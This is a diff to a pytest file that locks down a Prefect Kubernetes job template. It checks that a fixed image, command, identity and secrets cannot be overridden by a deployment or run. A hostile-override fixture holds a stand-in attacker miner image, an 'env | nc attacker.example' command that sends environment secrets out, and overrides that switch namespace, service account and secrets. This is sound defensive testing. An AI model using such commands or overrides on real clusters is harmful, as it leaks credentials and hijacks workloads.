@@ -378,14 +378,70 @@ def test_job_template_defaults_match_the_brief() -> None:
     # The brief's limits; the memory request covers a flow-run pod's measured ~205 MiB (docs/scaling.md).
     assert defaults["cpu_request"] == "100m" and defaults["memory_request"] == "224Mi"
     assert defaults["cpu_limit"] == "200m" and defaults["memory_limit"] == "256Mi"
-    assert defaults["namespace"] == NAMESPACE
-    assert defaults["service_account_name"] == "clientes-ingest-flows"
-    assert defaults["env_from_secret"] == "clientes-ingest-secrets"
-    assert defaults["image"] == f"{IMAGE_REPOSITORY}:{project_version()}"
     spec = _template()["job_configuration"]["job_manifest"]["spec"]
     assert spec["backoffLimit"] == 0, "Prefect does the retries"
     assert (spec["completions"], spec["parallelism"]) == (1, 1)
     assert not {"completions", "parallelism"} & set(spec["template"]["spec"])
+
+
+# What a run may vary; everything that decides what runs, as whom and with which secrets is fixed.
+RUN_VARIABLES = {"name", "cpu_request", "cpu_limit", "memory_request", "memory_limit", "finished_job_ttl",
+                 "job_watch_timeout_seconds", "pod_watch_timeout_seconds", "stream_output"}
+# Overrides a caller of the Prefect API could try (a deployment's or a run's job_variables).
+HOSTILE_VARIABLES: dict[str, Any] = {
+    "image": "attacker.example/miner:1.0",
+    "command": "sh -c 'env | nc attacker.example 80'",
+    "env": {"PYTHONPATH": "/tmp", "CLIENTES_S3_BUCKET": "attacker-bucket"},
+    "service_account_name": "prefect-worker",
+    "env_from_secret": "clientes-ingest-mssql",
+    "env_from_config_map": "other-config",
+    "namespace": "kube-system",
+    "labels": {"app.kubernetes.io/name": "prefect-server"},
+    "annotations": {"vault.hashicorp.com/agent-inject": "true"},
+    "image_pull_policy": "Always",
+    "cluster_config": {"config": {}, "context_name": "other"},
+}
+
+
+def test_job_template_fixes_image_command_env_identity_and_secrets() -> None:
+    configuration = _template()["job_configuration"]
+    assert set(_template()["variables"]["properties"]) == RUN_VARIABLES
+    assert _template()["variables"]["additionalProperties"] is False
+    assert configuration["namespace"] == NAMESPACE
+    assert not {"command", "env", "labels", "annotations", "cluster_config"} & set(configuration)
+    pod = configuration["job_manifest"]["spec"]["template"]["spec"]
+    assert pod["serviceAccountName"] == "clientes-ingest-flows"
+    (container,) = pod["containers"]
+    assert container["image"] == f"{IMAGE_REPOSITORY}:{project_version()}"
+    assert container["args"] == ["prefect", "flow-run", "execute"]
+    assert "env" not in container, "the worker adds Prefect's run env; nothing else may come from variables"
+    assert container["envFrom"] == [{"configMapRef": {"name": "clientes-ingest-config"}},
+                                    {"secretRef": {"name": "clientes-ingest-secrets"}}]
+    text = json.dumps(configuration)
+    assert not [name for name in HOSTILE_VARIABLES if "{{ " + name + " }}" in text]
+
+
+def _validate_job_variables(values: dict[str, Any]) -> None:
+    # What the Prefect server runs on deployment create/update and on every run of a deployment
+    # (prefect.server.api.validation._validate_work_pool_job_variables): a failure is a 422.
+    from prefect.utilities.schema_tools.validation import validate
+
+    validate(values, _template()["variables"], raise_on_error=True, preprocess=True, ignore_required=False,
+             allow_none_with_default=True)
+
+
+@pytest.mark.parametrize("name", sorted(HOSTILE_VARIABLES))
+def test_prefect_server_refuses_a_deployment_or_run_that_overrides(name: str) -> None:
+    from prefect.utilities.schema_tools.validation import ValidationError
+
+    with pytest.raises(ValidationError, match="Additional properties are not allowed"):
+        _validate_job_variables({name: HOSTILE_VARIABLES[name]})
+
+
+def test_prefect_server_accepts_what_a_run_may_vary(deployments: dict[str, dict[str, Any]]) -> None:
+    for name in ("ingest-clientes/k8s", "recover-abandoned-jobs/k8s"):
+        _validate_job_variables(deployments[name]["work_pool"]["job_variables"])
+    _validate_job_variables({"memory_limit": "512Mi", "cpu_limit": "500m", "finished_job_ttl": 600})
 
 
 class _NoApiClient:
@@ -395,16 +451,27 @@ class _NoApiClient:
         raise AssertionError(f"rendering the job template called the Prefect API ({name})")
 
 
-def _render(template: dict[str, Any], values: dict[str, Any]) -> dict[str, Any]:
+def _render(template: dict[str, Any], values: dict[str, Any], flow_run: Any = None) -> dict[str, Any]:
     from prefect.client.schemas.objects import FlowRun
     from prefect_kubernetes.worker import KubernetesWorkerJobConfiguration
 
     configuration = asyncio.run(
         KubernetesWorkerJobConfiguration.from_template_and_values(template, values, client=_NoApiClient())
     )
-    flow_run = FlowRun(id=uuid.uuid4(), name="daring-otter", flow_id=uuid.uuid4())
+    flow_run = flow_run or FlowRun(id=uuid.uuid4(), name="daring-otter", flow_id=uuid.uuid4())
     configuration.prepare_for_flow_run(flow_run=flow_run)
     return configuration.job_manifest
+
+
+def test_overrides_that_reach_the_worker_change_nothing() -> None:
+    # Defence in depth: were the server's check bypassed (the pool's variables loosened in the UI), the
+    # worker still renders the same Job from the fixed template.
+    from prefect.client.schemas.objects import FlowRun
+
+    run = FlowRun(id=uuid.uuid4(), name="daring-otter", flow_id=uuid.uuid4())
+    assert _render(_template(), HOSTILE_VARIABLES, run) == _render(_template(), {}, run)
+    bigger = _render(_template(), {"memory_limit": "512Mi"}, run)  # a declared variable still applies
+    assert bigger["spec"]["template"]["spec"]["containers"][0]["resources"]["limits"]["memory"] == "512Mi"
 
 
 @pytest.fixture(scope="module")
@@ -416,17 +483,15 @@ def test_rendered_job_is_a_valid_kubernetes_job(rendered_job: dict[str, Any]) ->
     kubernetes_validate.validate(rendered_job, K8S_VERSION, strict=True)
 
 
-def test_rendered_job_carries_the_deployment_settings(
-    rendered_job: dict[str, Any], deployments: dict[str, dict[str, Any]]
-) -> None:
-    variables = deployments["ingest-clientes/k8s"]["work_pool"]["job_variables"]
+def test_rendered_job_carries_the_deployment_settings(rendered_job: dict[str, Any]) -> None:
     assert rendered_job["metadata"]["namespace"] == NAMESPACE
     assert rendered_job["spec"]["backoffLimit"] == 0
     pod = rendered_job["spec"]["template"]["spec"]
     assert pod["serviceAccountName"] == "clientes-ingest-flows"
     assert pod["securityContext"]["runAsNonRoot"] is True
     (container,) = pod["containers"]
-    assert container["image"] == variables["image"]
+    assert container["image"] == f"{IMAGE_REPOSITORY}:{project_version()}"
+    assert container["args"] == ["prefect", "flow-run", "execute"]
     assert container["resources"] == {
         "requests": {"cpu": "100m", "memory": "224Mi"},
         "limits": {"cpu": "200m", "memory": "256Mi"},
